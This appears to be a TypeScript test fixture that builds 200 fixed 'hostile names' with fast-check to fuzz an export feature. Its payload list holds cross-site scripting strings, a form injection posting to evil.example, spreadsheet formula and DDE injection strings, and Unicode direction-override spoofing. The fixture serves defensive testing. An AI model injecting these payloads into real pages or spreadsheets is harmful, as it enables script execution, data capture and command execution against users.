import { constantFrom, oneof, sample, string, tuple } from "fast-check";

const payloads = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</style><style>*{display:none}</style>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><foreignObject>",
  "<a href='javascript:alert(1)'>click</a>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  "</title></head><body onload=alert(1)>",
  "</td></tr></table><form action=//evil.example><input name=body>",
  "<!-- <b>",
  "]]><![CDATA[<b>",
  "&lt;b&gt; &amp; &#60;b&#62; &notin",
  "`${alert(1)}` {{7*7}}",
  '=HYPERLINK("http://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "a\u202egnp.exe\u202c",
  "\u2066\u2067\u061c\u200b\ufeff",
  "\u0000\u0007\u001b[31mred\u001b]0;t\u0007",
  "half \ud800 of a pair \udc00",
  "خصم ٥٠٪ على الأحذية",
  "W".repeat(5000),
  "long words and many of them ".repeat(120),
  "\\3c b\\3e \\a } * { color: red",
];

/** Two hundred names as a stranger may write them into a good export; always the same ones. */
export const hostileNames: readonly string[] = sample(
  oneof(
    constantFrom(...payloads),
    tuple(constantFrom(...payloads), constantFrom(...payloads)).map((two) => two.join("")),
    string({ unit: "binary", minLength: 1, maxLength: 60 }),
    string({ unit: constantFrom(..."<>&\"'/=`!-- svgonxhref:;\\".split("")), minLength: 5 }),
  ),
  { numRuns: 200, seed: 18 },
);
